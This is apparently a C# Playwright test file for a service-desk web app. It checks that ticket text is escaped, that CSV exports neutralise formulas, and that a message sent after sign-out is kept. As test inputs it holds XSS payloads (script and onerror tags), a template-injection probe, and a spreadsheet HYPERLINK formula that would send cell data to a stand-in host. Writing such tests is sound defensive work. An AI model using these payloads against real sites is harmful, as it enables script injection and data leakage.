using Microsoft.Playwright;
using Shouldly;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace ServiceDesk.BrowserTests;

public sealed class BadInputJourney(RunningDesk desk) : IAsyncDisposable
{
    public ValueTask DisposeAsync() => desk.Leave();

    [Theory]
    [InlineData("en-GB")]
    [InlineData("zh-CN")]
    public async Task A_script_in_a_text_is_shown_as_it_was_typed_and_never_runs(string language)
    {
        const string Attack = """=1+1 "><script>document.title='owned'</script><img src=x onerror="document.title='owned'"> '{{7*7}} 脚本""";
        var subject = $"{Attack} {Guid.NewGuid():N}";
        var requester = await desk.SignIn(language, "requester");
        await requester.GotoAsync("/tickets/new");
        await requester.FillAsync("#subject", subject);
        await requester.FillAsync("#description", Attack);
        var ticket = await requester.Send(subject);
        await requester.Act("messages", ("text", Attack));
        await Shows(requester, "#entries [data-kind=message]", Attack);

        var agent = await desk.SignIn(language, "agent");
        await agent.Until(ticket, "#action-respond");
        await agent.Act("respond", ("message", Attack));
        await Shows(agent, "#entries [data-kind=response]", Attack);
        await agent.Act("note", ("text", Attack));
        await Shows(agent, "#entries [data-kind=note]", Attack);
        await agent.GotoAsync($"/tickets?q={Uri.EscapeDataString(subject)}");
        await Shows(agent, "#tickets .ticket-link", subject);

        var admin = await desk.SignIn(language, "admin");
        await admin.Until("/audit" + ticket, "#then [data-field=team]");
        await Shows(admin, "h1", subject);
        await Shows(admin, "#then", Attack);
        await Register(admin, Attack);
    }

    [Fact]
    public async Task What_is_exported_holds_no_formula()
    {
        var cancel = TestContext.Current.CancellationToken;
        var attack = $"""=HYPERLINK("http://example.org/?"&A1,"x")<script>document.title='owned'</script> {Guid.NewGuid():N}""";
        var requester = await desk.SignIn("en-GB", "requester");
        var ticket = await requester.Submit(attack);
        await requester.Act("correct", ("values.affectedSystem", attack));
        await Expect(requester.Locator("#entries [data-kind=correction]")).ToContainTextAsync(attack);
        var position = requester.Position();

        var lead = await desk.SignIn("en-GB", "lead");
        await desk.Api("analytics", "lead").Get($"/reports/flow?by=service,category&position={position}", cancel);
        await lead.Until("/reports/flow?by=service&by=category", $"#flow tbody tr:has-text(\"{attack[^32..]}\")");
        await Shows(lead, "#flow tbody", attack);
        var file = await lead.APIRequest.GetAsync((await lead.GetAttributeAsync(".report-exports a[href$='format=csv']", "href"))!);
        file.Headers["content-disposition"].ShouldStartWith("attachment");
        (await file.TextAsync()).Split('\n').Single(line => line.Contains(attack[^32..], StringComparison.Ordinal)).ShouldContain("\"'=HYPERLINK(\"\"http");
    }

    [Theory]
    [InlineData("en-GB", true)]
    [InlineData("zh-CN", false)]
    public async Task What_was_sent_when_the_session_had_ended_is_kept_and_sent_after_signing_in(string language, bool hasScripts)
    {
        const string Typed = "It rattles, too.\n还有异响 <3";
        var (account, words) = (desk.Account("requester"), Words.In(language));
        var page = await desk.OpenAs(new() { Locale = language, JavaScriptEnabled = hasScripts });
        await desk.EnterAs(page, "", "requester");
        var ticket = await page.Submit($"The fan is loud 风扇声音很大 {Guid.NewGuid():N}");
        await page.Write("messages", ("text", Typed));

        var elsewhere = await desk.OpenAs(new() { StorageState = await page.Context.StorageStateAsync() });
        await elsewhere.GotoAsync("/account");
        await elsewhere.SignOut();
        // A page that follows by itself hears of it, and leaves what is being written.
        if (hasScripts) await page.WaitForResponseAsync(answer => answer.Status == 401);

        await page.ClickAsync("#action-messages button[type=submit]");
        await Expect(page.Locator("main [role=status]")).ToHaveTextAsync(words["signin.kept"]);
        await RunningDesk.Enter(page, account);
        await Expect(page.Locator("h1")).ToHaveTextAsync(words["kept.title"]);
        (await page.Locator("#kept blockquote").InnerTextAsync()).ShouldBe(Typed);
        await page.ClickAsync("#kept button[type=submit]");
        await page.WaitForURLAsync($"**{ticket}**");
        await Expect(page.Locator("#entries [data-kind=message]")).ToContainTextAsync("还有异响 <3");
    }

    /// <summary>The text stands there letter by letter, and no script of it has run.</summary>
    private static async Task Shows(IPage page, string selector, string text)
    {
        await Expect(page.Locator(selector).First).ToContainTextAsync(text);
        (await page.TitleAsync()).ShouldNotBe("owned");
        (await page.Locator("img[src=x]").CountAsync()).ShouldBe(0);
    }

    private static async Task Register(IPage page, string name)
    {
        await page.GotoAsync("/administration/people");
        await page.ClickAsync("#register summary");
        await page.FillAsync("#name", name);
        await page.Locator("#register [name=roles][value=system]").CheckAsync();
        await page.ClickAsync("#register button[type=submit]");
        await Shows(page, "h1", name);
    }
}
